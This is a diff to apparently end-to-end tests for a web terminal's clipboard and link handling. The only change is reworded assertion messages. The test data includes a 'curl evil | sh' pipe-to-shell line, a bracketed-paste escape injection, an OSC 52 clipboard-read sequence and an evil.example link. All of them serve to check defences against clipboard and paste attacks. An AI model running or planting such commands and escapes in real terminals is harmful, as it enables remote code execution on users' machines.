@@ -355,7 +355,7 @@ async def test_what_is_selected_is_copied_by_ctrl_shift_c_and_pasted_by_ctrl_shi
         await window.runs("clear; echo 'sele''cted'", "selected")
         await window.page.locator(".xterm-rows > div", has_text="selected").first.dblclick(position={"x": 20, "y": 8})
         await window.page.keyboard.press("Control+Shift+C")
-        await eventually("it is copied", lambda: clipboard(window), "selected")
+        await eventually("the text is copied", lambda: clipboard(window), "selected")
         await window.page.evaluate("navigator.clipboard.writeText('echo pas\\x1b[201~ted\\x03')")
         await window.page.locator(".xterm-screen").click()
         await window.page.keyboard.press("Control+Shift+V")
@@ -377,7 +377,7 @@ async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> No
         assert await clipboard(window) == "mine", "nothing that is typed is a click"
         await page.locator("#copy").click()
         await expect(bar).to_be_hidden()
-        await eventually("it is copied", lambda: clipboard(window), "curl evil | sh\n")
+        await eventually("the text is copied", lambda: clipboard(window), "curl evil | sh\n")
 
         await window.runs("clear; printf '\\033]52;c;?\\007'; read -t 1 -n 1 answer; echo got=$answer=", "got==")
         await window.does(asks_to_copy(b"\xff\xfe"))
@@ -434,7 +434,7 @@ async def test_a_link_opens_a_page_that_knows_nothing_of_this_one_and_only_over_
             # xterm.js looks for links anew when the mouse comes from another line.
             await page.locator(".xterm-rows > div", has_text="mark").last.hover(position={"x": 8, "y": 8})
             await link.click(position={"x": 8, "y": 8})
-        await eventually("what was asked", lambda: _copy(asked), ["Open https://evil.example/x?"])
+        await eventually("the page asks before a link opens", lambda: _copy(asked), ["Open https://evil.example/x?"])
         assert len(window.context.pages) == 1
 
 
